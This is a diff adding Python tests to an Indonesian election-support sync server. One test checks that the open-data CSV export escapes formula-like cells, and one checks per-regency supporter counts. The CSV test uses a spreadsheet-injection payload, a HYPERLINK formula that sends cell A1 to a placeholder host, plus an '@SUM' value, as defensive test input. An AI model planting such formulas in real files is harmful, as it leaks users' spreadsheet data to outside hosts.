@@ -385,3 +385,62 @@ def test_the_decree_figures_are_published_under_a_rule_set_this_server_does_not_
     odd = views.requirement({**newer, "rule_set": "pilkada-2024", "kind": "presiden",
                              "official_threshold": 70})  # fmt: skip
     assert (odd.threshold, odd.threshold_source) == (70, "decree")
+
+
+def test_the_open_data_csv_never_hands_a_spreadsheet_a_formula() -> None:
+    """dukungan.csv is opened in spreadsheets by the public; an election's name (typed
+    by an operator) or a sub-region code (pushed by a client) starting with = + - @
+    must show as text, never run (OWASP CSV injection), as the desktop's exports do."""
+    import csv
+    import io
+
+    from sync.server.public.pages import open_data_csv
+
+    name = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Unduh")'
+    structure = views.Structure(
+        elections={"e": {"id": "e", "name": name, "kind": "bupati", "rule_set": "pilkada-2024"}},
+        pairs={"p": {"id": "p", "election_id": "e", "number": 1}},
+    )
+    cell = {"submitted": 1, "ms": 1, "bms": 0, "tms": 0, "pending": 0}
+    text = open_data_csv(structure, {"p": {"submission": {"@SUM(1)": cell}}}).decode("utf-8")
+    [row] = list(csv.DictReader(io.StringIO(text)))
+    assert row["election_name"] == "'" + name
+    assert row["subregion_code"] == "'@SUM(1)"
+    assert (row["pair_number"], row["ms"]) == ("1", "1")  # numbers stay numbers
+
+
+def test_a_governors_supporters_count_in_the_kabkota_that_verifies_them(state: Any) -> None:
+    """A governor election's spread is over kab/kota, and a supporter's kab/kota is its
+    ``kabkota_code``: the KPU kab/kota that verifies it (its area) and the one the
+    desktop's recap, the B.2-KWK the operator signs, counts it in. A row whose
+    kecamatan code names another kab/kota (a client's input the server keeps) counts
+    there too, and a row without a kab/kota code in no area, on the pages as well."""
+    gov = {"kind": "gubernur", "region_code": "32", "dpt": 1000, "subregion_count": 27,
+           "rule_set": "pilkada-2024", "name": "Pilgub"}  # fmt: skip
+
+    def create(entity: str, changes: dict[str, Any]) -> Mutation:
+        return Mutation(str(uuid.uuid4()), entity, str(uuid.uuid4()), "32", Op.UPSERT, 0, {
+            k: (None, v) for k, v in changes.items()
+        })  # fmt: skip
+
+    election = create("election", gov)
+    pair = create("pair", {"election_id": election.record_id, "number": 1})
+    rows = [("32.14", "32.14.01"), ("32.14", "32.15.01"), ("", "32.16.01")]
+    supporters = [
+        create("supporter", {"pair_id": pair.record_id, "kabkota_code": kab,
+                             "kecamatan_code": kec, **verdict("MS")})
+        for kab, kec in rows
+    ]  # fmt: skip
+    apply_batch(state.engine, state.config, ADMIN, "g", [election, pair, *supporters])
+
+    def support() -> dict[str, Any]:
+        with read_tx(state.engine) as conn:
+            structure, cells, _objections = views.load_all(conn)
+        return views.pair_support(structure.elections[election.record_id], cells[pair.record_id])
+
+    for _ in range(2):  # as the push path keeps them, then rebuilt from the records
+        got = support()
+        assert {code: c["ms"] for code, c in got["subregions"].items()} == {"32.14": 2, "": 1}
+        assert got["spread_have"] == 1
+        with write_tx(state.engine) as conn:
+            figures.rebuild(conn, 0.0)
